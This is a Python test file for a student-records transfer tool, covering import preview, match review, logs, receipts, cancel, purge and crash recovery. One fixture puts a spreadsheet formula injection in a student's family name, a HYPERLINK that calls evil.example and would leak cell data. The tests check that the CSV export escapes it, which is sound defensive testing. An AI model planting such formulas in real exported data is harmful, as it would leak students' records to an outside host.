"""Import with matching on real nodes: preview, review, run, log, receipts, idempotency, fixing mistakes."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from fixtures_oneroster import make_bundle, write_bundle

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Alvarez")'
NEWCOMERS = [
    {"sis_id": "300001", "given_name": "Zara", "family_name": "Okonkwo", "birth_date": "2012-02-02", "sex": "F",
     "grade": "07", "state_id": "9000000901", "school_id": "0101", "school_name": "Lincoln Middle School"},
    # A family name another district's data could hold, which a spreadsheet would run as a formula.
    {"sis_id": "300002", "given_name": "Mateo", "family_name": FORMULA, "birth_date": "2011-10-10", "sex": "M",
     "grade": "08", "school_id": "0101", "school_name": "Lincoln Middle School"},
]  # fmt: skip


def _json(d, *args: str):
    return json.loads(d.cli(*args).stdout)


def _wait(condition, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "not reached in time"
        time.sleep(0.2)


def _add_iep(a, path: Path) -> str:
    return json.loads(a.cli("documents", "add", "100001", str(path), "--type", "iep", "--as", "coord",
                            "--json").stdout)["doc_id"]  # fmt: skip


def _import(b, transfer_id: str) -> None:
    b.cli("import", "preview", transfer_id, "--as", "coord")
    b.cli("import", "run", transfer_id, "--as", "coord")


def _send_accept(a, b, *students: str, extra: tuple[str, ...] = ()) -> str:
    args = [x for s in students for x in ("--student", s)]
    sent = json.loads(a.cli("send", "--to", "b.example.org", *args, *extra, "--as", "coord", "--json").stdout)
    b.cli("accept", sent["transfer_id"], "--code", sent["code"], "--as", "coord")
    return sent["transfer_id"]


def test_preview_review_run_log_and_receipt(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    doc = tmp_path / "eval.pdf"
    doc.write_bytes(os.urandom(50_000))
    a.cli("documents", "add", "100001", str(doc), "--type", "evaluation", "--as", "coord")
    score_csv = tmp_path / "scores.csv"
    score_csv.write_text(
        "student_sis_id,assessment,subject,date,percentile\n100001,STAR,Math,2026-09-01,55\n"
    )
    a.cli("assessments", "import", str(score_csv), "--as", "coord")
    tid = _send_accept(a, b, "100001", "100002", "300001", "300002", extra=("--all-records",))

    refused = b.cli("import", "run", tid, "--as", "coord", ok=False)
    assert "import" in refused.stderr and refused.exit_code == 2  # nothing runs before a preview
    preview = _json(
        b, "import", "preview", tid, "--school", "Lincoln Middle School", "--as", "coord", "--json"
    )
    assert preview["source_domain"] == "a.example.org" and preview["source_school"] == "Lincoln Middle School"
    assert (preview["matched"], preview["new"]) == (2, 2)
    assert _json(b, "students", "search", "okonkwo", "--json") == []  # preview writes no student

    result = _json(b, "import", "run", tid, "--as", "coord", "--json")
    # The two matched students are held here exactly as sent; no conflict changed anything.
    assert result["result"] == "imported with no changes" and result["imported"] == 4
    created = _json(b, "students", "search", "okonkwo", "--json")
    assert len(created) == 1 and created[0]["school_name"] == "Lincoln Middle School"
    docs = _json(b, "documents", "list", "100001", "--json")
    assert len(docs) == 1 and docs[0]["origin"]["sender"] == "a.example.org"
    assert "signed by a.example.org" in b.cli("documents", "verify", docs[0]["doc_id"]).stdout
    # The registrar reads what arrived: into a folder, under the sender's file name, or through a pipe.
    (tmp_path / "read").mkdir()
    got = _json(b, "documents", "get", docs[0]["doc_id"], "-o", str(tmp_path / "read"), "--as", "coord", "--json")
    assert Path(got["path"]) == tmp_path / "read" / "eval.pdf" and got["length"] == 50_000
    assert Path(got["path"]).read_bytes() == doc.read_bytes()
    assert b.cli("documents", "get", docs[0]["doc_id"], "-o", "-", "--as", "coord").stdout_bytes == doc.read_bytes()
    assert _json(b, "assessments", "list", "100001", "--json")[0]["percentile"] == "55"

    log = tmp_path / "log.csv"
    b.cli("import", "log", tid, "--csv", str(log))
    assert log.stat().st_mode & 0o777 == 0o600  # students' names: the owner's to read
    # A path in the home (a mistyped name, the database itself) is refused, and the database is untouched.
    database, key = b.home / "satchel.db", b.home / "keys" / "identity.key"
    key_before = key.read_bytes()
    for inside in (database, key, b.home / "import-log.csv"):
        refused = b.cli("import", "log", tid, "--csv", str(inside), ok=False)
        assert "inside the node's home" in refused.stderr and "(error code input.invalid)" in refused.stderr
    assert database.read_bytes()[:16] == b"SQLite format 3\0" and key.read_bytes() == key_before
    assert not (b.home / "import-log.csv").exists()
    nowhere = b.cli("import", "log", tid, "--csv", str(tmp_path / "no-such-folder" / "log.csv"), ok=False)
    assert "cannot write" in nowhere.stderr and "(error code input.invalid)" in nowhere.stderr
    rows = list(csv.DictReader(log.open()))
    assert len(rows) == 4 and {r["SourceImportStatus"] for r in rows} == {"Imported"}
    first = next(r for r in rows if r["SourceStudentId"] == "100001")
    assert first["DestinationStudentId"] == "100001" and first["DocumentCount"] == "1"
    assert first["ScoreImportStatus"] == "Imported 1"
    assert (first["SourceStateId"], first["DestinationStateId"]) == ("9000000101", "9000000101")
    assert (first["SourceUsername"], first["DestinationUsername"]) == ("amartinez", "amartinez")
    assert first["SourceEmail"] == first["DestinationEmail"] == "ava.martinez@students.example.org"
    assert list(rows[0])[3:11] == ["SourceStudentId", "DestinationStudentId", "SourceStateId", "DestinationStateId",
                                   "SourceUsername", "DestinationUsername", "SourceEmail", "DestinationEmail"]
    assert next(r for r in rows if r["SourceStudentId"] == "300002")["LastName"] == "'" + FORMULA  # text in Excel
    listed = _json(b, "imports", "list", "--json")
    assert listed[0]["students"] == "4 of 4" and listed[0]["school"] == "Lincoln Middle School"

    # The sender receives a signed `imported` receipt with the counts.
    def imported_counts():
        timeline = _json(a, "transfers", "show", tid, "--json")["timeline"]
        return next((e["detail"].get("counts") for e in timeline if e["kind"] == "imported"), None)

    _wait(lambda: imported_counts() is not None)
    assert imported_counts()["students_imported"] == 4 and imported_counts()["documents"] == 1

    # Running it again, or receiving the same envelope again, duplicates nothing.
    again = b.cli("import", "run", tid, "--as", "coord", ok=False)
    assert again.exit_code == 2
    assert len(_json(b, "documents", "list", "100001", "--json")) == 1
    assert len(_json(b, "students", "search", "okonkwo", "--json")) == 1


def test_uncertain_students_wait_for_review_and_conflicts_are_skipped(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    # B knows Ava Martinez under another family name spelling and no state id: a possible match only.
    variant = [{"sis_id": "B-9001", "given_name": "Ava", "family_name": "Martines", "birth_date": "2012-03-14",
                "sex": "F", "grade": "07", "school_id": "0101", "school_name": "Lincoln Middle School"}]  # fmt: skip
    a_students = [{**NEWCOMERS[0], "sis_id": "400001", "state_id": ""},
                  {**NEWCOMERS[1], "sis_id": "400002"}]  # fmt: skip
    a.cli(
        "roster", "import", str(write_bundle(tmp_path / "a-more", make_bundle(a_students))), "--as", "coord"
    )
    b.cli("roster", "import", str(write_bundle(tmp_path / "b-more", make_bundle(variant))), "--as", "coord")
    a.cli("roster", "import", str(write_bundle(tmp_path / "a-ava", make_bundle([
        {"sis_id": "400003", "given_name": "Ava", "family_name": "Martinez", "birth_date": "2012-03-14", "sex": "F",
         "grade": "07"}]))), "--as", "coord")  # fmt: skip
    # The sender says 400002 is B's "100005" — an id that belongs to someone else at B.
    tid = _send_accept(a, b, "400001", "400002", "400003", extra=("--receiving-sis-id", "400002=100005"))
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    review = _json(b, "import", "review", tid, "--json")
    by_id = {r["sender_sis_id"]: r for r in review}
    assert by_id["400003"]["match_status"] == "uncertain"
    assert by_id["400002"]["match_status"] in ("uncertain", "new")

    first = _json(b, "import", "run", tid, "--as", "coord", "--json")
    assert first["result"].startswith("partial") and first["imported"] < 3
    skipped = {s["student"]: s["reason"] for s in first["skipped"]}
    assert "needs review" in skipped["400003"]

    assert "Warning" not in b.cli("import", "match", tid, "400003", "--to", "B-9001", "--as", "coord").stderr
    # Linking a second incoming student to the same local one is said, not refused (the sender may hold one
    # child twice); the coordinator then chooses again.
    shared = b.cli("import", "match", tid, "400002", "--to", "B-9001", "--as", "coord").stderr
    assert "Warning: B-9001 also receives the records of incoming student(s) 400003 of this import" in shared
    assert f"satchel import match {tid} 400003 --to|--new|--later" in shared
    b.cli("import", "match", tid, "400002", "--new", "--as", "coord")
    review = _json(b, "import", "review", tid, "--json")
    assert {r["sender_sis_id"] for r in review if r["reviewed_by"]} == {"400002", "400003"}
    second = _json(b, "import", "run", tid, "--as", "coord", "--json")
    # 400002 asked for SIS id 100005 here, which is Noah O'Brien's: that student is skipped with the reason.
    assert second["result"] == "partial (2 of 3)"
    reason = {s["student"]: s["reason"] for s in second["skipped"]}["400002"]
    assert "100005 already belongs to" in reason
    assert second["reference"].startswith("IMP-")

    # The sender's signed receipt says what kind of problem it was, and nothing of B's own student.
    def skipped_at_sender() -> dict | None:
        timeline = _json(a, "transfers", "show", tid, "--json")["timeline"]
        counts = [e["detail"]["counts"] for e in timeline if e["kind"] == "imported"]  # one per run
        return counts[-1]["skipped"] if len(counts) == 2 else None

    _wait(lambda: skipped_at_sender() is not None)
    assert skipped_at_sender() == {"its SIS id is already taken at the receiving district": 1}
    # Ava is held here as Martines: linked, this district's spelling kept, and the import says so.
    log = tmp_path / "log.csv"
    b.cli("import", "log", tid, "--csv", str(log))
    ava = next(r for r in csv.DictReader(log.open()) if r["SourceStudentId"] == "400003")
    assert ava["SourceImportStatus"] == "Imported with changes"
    assert ava["Reason"] == "family name 'Martines' kept (sent 'Martinez')"
    counts = [e["detail"]["counts"] for e in _json(a, "transfers", "show", tid, "--json")["timeline"]
              if e["kind"] == "imported"]  # fmt: skip
    assert counts[-1]["students_with_changes"] == 1
    assert "Noah" not in json.dumps(_json(a, "transfers", "show", tid, "--json"))
    assert any(s["sis_id"] == "B-9001" for s in _json(b, "students", "search", "martines", "--json"))
    # 400003 is imported into B-9001 now: linking 400002 there too names 400002 as the one to change.
    late = b.cli("import", "match", tid, "400002", "--to", "B-9001", "--as", "coord").stderr
    assert "also receives the records of incoming student(s) 400003" in late
    assert f"satchel import match {tid} 400002 --to|--new|--later" in late


def test_cancel_leaves_nothing_and_can_start_again(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    doc = tmp_path / "plan.pdf"
    doc.write_bytes(os.urandom(20_000))
    a.cli("documents", "add", "300001", str(doc), "--type", "504", "--as", "coord")
    tid = _send_accept(a, b, "300001", "300002", extra=("--all-records",))
    before = _snapshot(b.home)
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    # Leave one student for later so the run is partial, then cancel: everything it wrote goes away.
    b.cli("import", "match", tid, "300002", "--later", "--as", "coord")
    b.cli("import", "run", tid, "--as", "coord")
    assert _json(b, "students", "search", "okonkwo", "--json")
    cancelled = b.cli("import", "cancel", tid, "--as", "coord").stdout
    assert "the review decisions are kept for the next run" in cancelled
    assert _snapshot(b.home) == before
    assert _json(b, "transfers", "show", tid, "--json")["state"] == "accepted"
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    # The student set aside for later is still set aside: cancelling undid the writes, not the review.
    again = _json(b, "import", "run", tid, "--as", "coord", "--json")
    assert again["result"] == "partial (1 of 2)" and [s["student"] for s in again["skipped"]] == ["300002"]
    # Its reason says a coordinator set it aside, not that the match was uncertain.
    assert again["skipped"][0]["reason"] == "needs review: set aside for later by a coordinator"
    b.cli("import", "match", tid, "300002", "--new", "--as", "coord")
    assert _json(b, "import", "run", tid, "--as", "coord", "--json")["result"] == "imported with no changes"


def test_a_second_preview_shows_the_new_match_with_its_own_reasons(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    quinn = {"given_name": "Quinlan", "birth_date": "2011-05-06", "sex": "M", "grade": "08"}
    a.cli("roster", "import", str(write_bundle(tmp_path / "a-q", make_bundle([
        {**quinn, "sis_id": "400009", "family_name": "Oyelaran"}]))), "--as", "coord")  # fmt: skip
    tid = _send_accept(a, b, "400009")
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    (first,) = _json(b, "import", "review", tid, "--json")
    assert first["match_status"] == "new", first
    # The nightly SIS sync brings him in under a misspelt family name: matched again, he is a candidate.
    b.cli("roster", "import", str(write_bundle(tmp_path / "b-q", make_bundle([
        {**quinn, "sis_id": "B-9009", "family_name": "Oyelaren", "school_id": "0101",
         "school_name": "Lincoln Middle School"}]))), "--as", "coord")  # fmt: skip
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    (second,) = _json(b, "import", "review", tid, "--json")
    assert second["match_status"] != "new" and second != first, second
    assert second["reasons"] != first["reasons"] and second["candidates"] != first["candidates"]


def _partly_imported(a, b, tmp_path: Path) -> str:
    """Two newcomers sent and accepted; one imported, the other set aside for later: a partial import."""
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    tid = _send_accept(a, b, "300001", "300002")
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    b.cli("import", "match", tid, "300002", "--later", "--as", "coord")
    b.cli("import", "run", tid, "--as", "coord")
    return tid


def test_records_refused_after_a_partial_import_was_cancelled_are_rejected_at_both_sides(pair, tmp_path) -> None:
    a, b, _ = pair
    tid = _partly_imported(a, b, tmp_path)
    _wait(lambda: _json(a, "transfers", "show", tid, "--json")["state"] == "partially_imported")
    b.cli("import", "cancel", tid, "--as", "coord")
    b.cli("reject", tid, "--reason", "these students enrolled elsewhere after all", "--as", "coord")
    _wait(lambda: _json(a, "transfers", "show", tid, "--json")["state"] == "rejected")


def test_a_second_run_of_the_same_import_takes_over_and_nothing_is_lost(pair, tmp_path: Path) -> None:
    import pytest

    from node import import_run
    from node.home import open_node

    a, b, _ = pair
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    tid = _send_accept(a, b, "300001", "300002", "100001")
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    b.stop()
    env = {**b.env, "SATCHEL_IMPORTS_BATCH_STUDENTS": "1"}

    class StillGoing(Exception):
        """Stands for the second run still writing while the first one goes on."""

    def after_its_first_batch(done: int, total: int) -> None:
        raise StillGoing

    with open_node(b.home, env) as first, open_node(b.home, env) as second:

        def another_coordinator_runs_it_too(done: int, total: int) -> None:
            if done == 1:
                with pytest.raises(StillGoing):
                    import_run.run(second, actor="coord", transfer_id=tid, progress=after_its_first_batch)

        # The first run stops at its next batch: the import is the second run's now, never both at once.
        with pytest.raises(import_run.ImportCancelledWhileRunning):
            import_run.run(first, actor="coord", transfer_id=tid, progress=another_coordinator_runs_it_too)
        result = import_run.run(first, actor="coord", transfer_id=tid)  # and a run later finishes the rest
    assert (result.imported, result.total) == (3, 3)
    b.start()
    review = _json(b, "import", "review", tid, "--json")
    log = tmp_path / "log.csv"
    b.cli("import", "log", tid, "--csv", str(log))
    assert [r["SourceImportStatus"] for r in csv.DictReader(log.open())] == ["Imported"] * 3, review
    assert len(_json(b, "students", "search", "okonkwo", "--json")) == 1


def test_cancel_keeps_a_created_student_that_records_added_since_name(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    tid = _partly_imported(a, b, tmp_path)
    (zara,) = _json(b, "students", "search", "okonkwo", "--json")
    note = tmp_path / "nurse.pdf"
    note.write_bytes(os.urandom(5_000))  # the nurse files a note for the new student before anyone cancels
    b.cli("documents", "add", zara["sis_id"], str(note), "--type", "other", "--as", "coord")
    cancelled = b.cli("import", "cancel", tid, "--as", "coord").stdout
    assert "Kept 1 student(s) the import had created" in cancelled and zara["sis_id"] in cancelled
    assert _json(b, "students", "search", "okonkwo", "--json") == [zara]
    assert len(_json(b, "documents", "list", zara["sis_id"], "--json")) == 1
    assert _json(b, "transfers", "show", tid, "--json")["state"] == "accepted"


def test_an_import_cancelled_while_it_runs_stops_and_leaves_nothing(pair, tmp_path: Path) -> None:
    import pytest

    from node import import_run
    from node.home import open_node

    a, b, _ = pair
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    tid = _send_accept(a, b, "300001", "300002", "100001")
    before = _snapshot(b.home)
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    b.stop()
    env = {**b.env, "SATCHEL_IMPORTS_BATCH_STUDENTS": "1"}  # a batch per student: room to cancel in between
    with open_node(b.home, env) as running, open_node(b.home, env) as other:

        def cancel_after_the_first(done: int, total: int) -> None:
            if done == 1:  # a second coordinator cancels while the run is between batches
                import_run.cancel(other, actor="coord", transfer_id=tid)

        with pytest.raises(import_run.ImportCancelledWhileRunning) as stopped:
            import_run.run(running, actor="coord", transfer_id=tid, progress=cancel_after_the_first)
    assert stopped.value.code == "import.cancelled"
    b.start()
    assert _snapshot(b.home) == before  # the first batch was removed by the cancel, and none came after it
    assert _json(b, "transfers", "show", tid, "--json")["state"] == "accepted"
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    assert _json(b, "import", "run", tid, "--as", "coord", "--json")["imported"] == 3


def test_an_import_whose_operator_is_disabled_while_it_runs_stops_between_students(pair, tmp_path: Path) -> None:
    import pytest

    from node import import_run
    from node.errors import OperatorDisabled
    from node.home import open_node
    from node.operators import disable_user

    a, b, _ = pair
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    tid = _send_accept(a, b, "300001", "300002", "100001")
    b.cli("users", "add", "cleo", "--email", "cleo@b.example.org", "--name", "Cleo Coordinator", "--role",
          "coordinator", "--as", "admin")  # fmt: skip
    b.cli("import", "preview", tid, "--school", "0101", "--as", "cleo")
    b.stop()
    env = {**b.env, "SATCHEL_IMPORTS_BATCH_STUDENTS": "1"}  # a batch per student: room to disable in between
    with open_node(b.home, env) as running, open_node(b.home, env) as other:

        def disable_after_the_first(done: int, total: int) -> None:
            if done == 1:  # an admin takes the account away while the run is between batches
                disable_user(other, actor="admin", username="cleo")

        with pytest.raises(OperatorDisabled) as stopped:
            import_run.run(running, actor="cleo", transfer_id=tid, progress=disable_after_the_first)
    assert "cleo was disabled while this ran: the import of transfer" in stopped.value.message
    assert "1 of 3 students" in stopped.value.message
    b.start()
    log = _json(b, "import", "log", tid, "--json")
    assert sorted(s["SourceImportStatus"] for s in log) == ["Imported", "Not run", "Not run"]
    # What was imported stays; another coordinator finishes the import.
    assert _json(b, "import", "run", tid, "--as", "coord", "--json")["imported"] == 3


def _snapshot(home: Path) -> tuple:
    with sqlite3.connect(home / "satchel.db") as conn:
        tables = ("students", "documents", "cases", "assessment_results", "imported_records")
        rows = [conn.execute(f"SELECT * FROM {table} ORDER BY 1").fetchall() for table in tables]
    return (*rows, sorted(p.name for p in (home / "blobs" / "sha256").rglob("*") if p.is_file()))


def test_fixing_mistakes_move_delete_purge_and_corrections(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    doc = tmp_path / "iep.pdf"
    doc.write_bytes(b"first version " + os.urandom(10_000))
    a_doc = _add_iep(a, doc)
    tid = _send_accept(a, b, "100001", extra=("--documents", a_doc))
    _import(b, tid)
    [landed] = _json(b, "documents", "list", "100001", "--json")
    # It landed on the wrong student: move it, then delete and purge.
    b.cli("documents", "move", landed["doc_id"], "--to", "100002", "--as", "coord")
    assert _json(b, "documents", "list", "100002", "--json")[0]["doc_id"] == landed["doc_id"]
    b.cli("documents", "delete", landed["doc_id"], "--as", "coord")
    b.cli("purge", landed["doc_id"], "--as", "admin")
    blob = b.home / "blobs" / "sha256" / landed["sha256"][:2] / landed["sha256"]
    assert not blob.exists()
    audit = _json(b, "audit", "--json", "--limit", "200")
    assert any(e["action"] == "document.purge" for e in audit)
    assert "hash chain verified" in b.cli("audit", "verify").stdout

    # The sender redoes the transfer for the right student: what was purged here comes again (it was not
    # skipped as "already imported"), as a new copy; a second redo adds nothing.
    redo = _send_accept(a, b, "100001", extra=("--documents", a_doc))
    _import(b, redo)
    [again] = _json(b, "documents", "list", "100001", "--json")
    assert again["sha256"] == landed["sha256"] and again["doc_id"] != landed["doc_id"]
    assert again["origin"]["envelope"] == redo and blob.exists()
    twice = _send_accept(a, b, "100001", extra=("--documents", a_doc))
    _import(b, twice)
    assert [d["doc_id"] for d in _json(b, "documents", "list", "100001", "--json")] == [again["doc_id"]]

    # The sender corrects the document: the receiver gets it as a new version of what it received.
    fixed = tmp_path / "iep-fixed.pdf"
    fixed.write_bytes(b"second version " + os.urandom(10_000))
    a.cli("documents", "replace", a_doc, str(fixed), "--as", "coord")
    newest = next(d for d in _json(a, "documents", "list", "100001", "--json") if d["replaces"] == a_doc)
    b.cli(
        "documents", "move", landed["doc_id"], "--to", "100001", "--as", "coord", ok=False
    )  # purged: refused
    tid2 = _send_accept(a, b, "100001", extra=("--documents", newest["doc_id"]))
    _import(b, tid2)
    versions = {d["doc_id"]: d for d in _json(b, "documents", "list", "100001", "--json")}
    [new_version] = [d for d in versions.values() if d["replaces"] == again["doc_id"]]  # the copy still here
    assert new_version["origin"]["envelope"] == tid2


def _one_iep_imported(a, b, tmp_path: Path) -> tuple[str, dict]:
    """A sends B an IEP of student 100001 and B imports it: (A's document id, B's document)."""
    doc = tmp_path / "iep.pdf"
    doc.write_bytes(os.urandom(20_000))
    a_doc = _add_iep(a, doc)
    _import(b, _send_accept(a, b, "100001", extra=("--documents", a_doc)))
    [landed] = _json(b, "documents", "list", "100001", "--json")
    return a_doc, landed


def test_a_redo_accepted_before_the_purge_does_not_bring_the_record_back_and_the_purge_says_so(
    pair, tmp_path: Path
) -> None:
    # A transfer held here when the record is purged will not import it (spec/envelope.md §5.3): its bytes,
    # which it held for the import, go with the purge, and the admin is told which transfer will not bring it
    # and what to do. A redo sent after the purge brings it (test_fixing_mistakes).
    a, b, _ = pair
    a_doc, landed = _one_iep_imported(a, b, tmp_path)
    redo = _send_accept(a, b, "100001", extra=("--documents", a_doc))
    b.cli("documents", "delete", landed["doc_id"], "--as", "coord")
    told = b.cli("purge", landed["doc_id"], "--as", "admin").stdout
    assert (f"Transfer(s) {redo} from a.example.org, here since before the purge, will not import it. If it "
            "belongs to another student, ask a.example.org to send it again.") in told  # fmt: skip
    blob = b.home / "blobs" / "sha256" / landed["sha256"][:2] / landed["sha256"]
    assert not blob.exists()
    _import(b, redo)
    assert [d for d in _json(b, "documents", "list", "100001", "--json") if d["status"] == "active"] == []


def test_a_transfer_sealed_before_the_purge_and_delivered_after_does_not_bring_the_record_back(
    pair, tmp_path: Path
) -> None:
    # Found left over: what arrived after the purge counted as a redo, so a transfer A sealed before it (held at
    # A while B was down, or arriving as B purged) brought the purged record back. A redo is sealed after.
    a, b, _ = pair
    a_doc, landed = _one_iep_imported(a, b, tmp_path)
    b.stop()
    sent = json.loads(a.cli("send", "--to", "b.example.org", "--student", "100001", "--documents", a_doc, "--as",
                            "coord", "--json").stdout)  # fmt: skip
    b.cli("documents", "delete", landed["doc_id"], "--as", "coord")
    b.cli("purge", landed["doc_id"], "--as", "admin")
    # As if the purge came ten minutes after A sealed (an envelope's clock is trusted to within five).
    with sqlite3.connect(b.home / "satchel.db") as conn:
        conn.execute("UPDATE purged_records SET purged_at = ?",
                     [(datetime.now(UTC) + timedelta(minutes=10)).isoformat(timespec="seconds")[:19] + "Z"])
    b.start()
    a.cli("transfers", "retry", sent["transfer_id"], "--as", "coord")
    accepted = b.cli("accept", sent["transfer_id"], "--code", sent["code"], "--as", "coord").stdout
    assert (f"Left out: 1 of them (sender's id {a_doc}), purged here before this transfer was sent or opened; it "
            "will not import them. If one belongs to another student, ask a.example.org to send it again.") in accepted
    _import(b, sent["transfer_id"])
    assert [d for d in _json(b, "documents", "list", "100001", "--json") if d["status"] == "active"] == []
    blob = b.home / "blobs" / "sha256" / landed["sha256"][:2] / landed["sha256"]
    assert not blob.exists()  # a redo, sealed after the purge, brings it (test_fixing_mistakes)


def test_a_deleted_document_brought_again_by_a_redo_is_not_restored_beside_it(pair, tmp_path: Path) -> None:
    # A redo brings a deleted document again (README, fixing mistakes); restoring the deleted copy after that
    # would hold the sender's record twice, so the restore is refused and names the copy that is active.
    a, b, _ = pair
    a_doc, landed = _one_iep_imported(a, b, tmp_path)
    b.cli("documents", "delete", landed["doc_id"], "--as", "coord")
    redo = _send_accept(a, b, "100001", extra=("--documents", a_doc))
    _import(b, redo)
    [again] = [d for d in _json(b, "documents", "list", "100001", "--json") if d["status"] == "active"]
    assert again["doc_id"] != landed["doc_id"] and again["origin"]["record_id"] == landed["origin"]["record_id"]

    refused = b.cli("documents", "restore", landed["doc_id"], "--as", "admin", ok=False)
    assert "(error code document.active_copy)" in refused.stderr and again["doc_id"] in refused.stderr
    active = [d["doc_id"] for d in _json(b, "documents", "list", "100001", "--json") if d["status"] == "active"]
    assert active == [again["doc_id"]]

    # Deleting the new copy first lets the old one back, and it is then the copy here: a further redo finds it
    # and brings nothing.
    b.cli("documents", "delete", again["doc_id"], "--as", "coord")
    b.cli("documents", "restore", landed["doc_id"], "--as", "admin")
    twice = _send_accept(a, b, "100001", extra=("--documents", a_doc))
    _import(b, twice)
    active = [d["doc_id"] for d in _json(b, "documents", "list", "100001", "--json") if d["status"] == "active"]
    assert active == [landed["doc_id"]]


def test_import_killed_midway_is_all_or_nothing_per_student(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    given = ["Liam", "Olivia", "Noah", "Emma", "Elijah", "Ava", "James", "Sophia", "Lucas", "Isabella", "Mason",
             "Mia"]  # fmt: skip
    family = ["Anderson", "Baker", "Castillo", "Dubois", "Eriksen", "Fujita", "Gallagher", "Haddad", "Ivanova",
              "Jablonski"]  # fmt: skip
    grade = [{"sis_id": f"8{n:05d}", "given_name": given[n % 12], "family_name": family[n // 12],
              "birth_date": (date(2013, 1, 1) + timedelta(days=3 * n)).isoformat(), "grade": "06",
              "school_id": "0101", "school_name": "Lincoln Middle School"} for n in range(120)]  # fmt: skip
    a.cli("roster", "import", str(write_bundle(tmp_path / "grade", make_bundle(grade))), "--as", "coord")
    for n in range(0, 120, 2):
        doc = tmp_path / f"d{n}.pdf"
        doc.write_bytes(os.urandom(2 << 20))
        a.cli("documents", "add", f"8{n:05d}", str(doc), "--type", "other", "--as", "coord")
    listing = tmp_path / "grade.txt"
    listing.write_text("\n".join(s["sis_id"] for s in grade))
    sent = json.loads(a.cli("send", "--to", "b.example.org", "--students-file", str(listing), "--all-records",
                            "--as", "coord", "--json").stdout)  # fmt: skip
    tid = sent["transfer_id"]
    b.cli("accept", tid, "--code", sent["code"], "--as", "coord")
    b.cli("import", "preview", tid, "--school", "0101", "--as", "coord")
    satchel = str(Path(sys.executable).with_name("satchel"))
    command = [satchel, "import", "run", tid, "--as", "coord", "--home", str(b.home)]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    # Two students per transaction, so that the kill lands between and inside batches.
    env = {**os.environ, **b.env, "SATCHEL_IMPORTS_BATCH_STUDENTS": "2"}
    proc = subprocess.Popen(command, env=env, **quiet)
    db = b.home / "satchel.db"

    def imported() -> int:
        with sqlite3.connect(db) as conn:
            return conn.execute("SELECT count(*) FROM import_students WHERE result = 'imported'").fetchone()[
                0
            ]

    deadline = time.monotonic() + 60
    while imported() < 3:  # poll tightly: the import itself takes a fraction of a second
        assert time.monotonic() < deadline and proc.poll() is None, "the import did not start"
        time.sleep(0.001)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    done = imported()
    assert 3 <= done < 120, "the kill should land mid-import"
    with sqlite3.connect(db) as conn:
        for sis_id, result in conn.execute("SELECT sender_sis_id, result FROM import_students").fetchall():
            students = conn.execute(
                "SELECT count(*) FROM students WHERE sis_id LIKE ?", [f"%{sis_id}"]
            ).fetchone()[0]
            records = conn.execute(
                "SELECT count(*) FROM imported_records WHERE student_sis_id LIKE ?", [f"%{sis_id}"]
            ).fetchone()[0]
            expected_records = 1 if int(sis_id) % 2 == 0 else 0
            if result == "imported":
                assert students == 1 and records == expected_records, sis_id
            else:
                assert students == 0 and records == 0, sis_id
    # The audit trail names who started the run that never finished, as the transfer was left `importing`.
    def trail() -> list[tuple[str, str, dict]]:
        entries = json.loads(b.cli("audit", "--subject", tid, "--json").stdout)
        return [(e["actor"], e["action"], e["details"]) for e in reversed(entries) if e["action"].startswith("import.")]

    started = ("coord", "import.start", {"from": "a.example.org", "students": 120, "imported_before": 0,
                                         "resumed": False})  # fmt: skip
    assert [e[:2] for e in trail()] == [("coord", "import.preview"), started[:2]] and trail()[-1] == started
    final = json.loads(b.cli("import", "run", tid, "--as", "coord", "--json").stdout)
    assert final["imported"] == 120 and final["result"] == "imported with no changes", final["skipped"][:3]
    again = ("coord", "import.start", {"from": "a.example.org", "students": 120 - done, "imported_before": done,
                                       "resumed": True})  # fmt: skip
    ran = ("coord", "import.run", {"result": "imported with no changes", "reference": None})
    assert trail()[1:] == [started, again, ran]
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT count(*) FROM documents").fetchone()[0] == 60
        assert conn.execute("SELECT count(*) FROM students WHERE sis_id LIKE 'T%'").fetchone()[0] == 120


def test_a_student_whose_rows_fail_is_skipped_alone(pair, tmp_path: Path) -> None:
    a, b, _ = pair
    a.cli("roster", "import", str(write_bundle(tmp_path / "more", make_bundle(NEWCOMERS))), "--as", "coord")
    doc = tmp_path / "plan.pdf"
    doc.write_bytes(os.urandom(20_000))
    a.cli("documents", "add", "300001", str(doc), "--type", "504", "--as", "coord")
    scores = tmp_path / "scores.csv"
    rows = "".join(
        f"{s},STAR,Math,2026-09-01,{40 + n}\n" for n, s in enumerate(["100001", "300001", "300002"])
    )
    scores.write_text("student_sis_id,assessment,subject,date,percentile\n" + rows)
    a.cli("assessments", "import", str(scores), "--as", "coord")
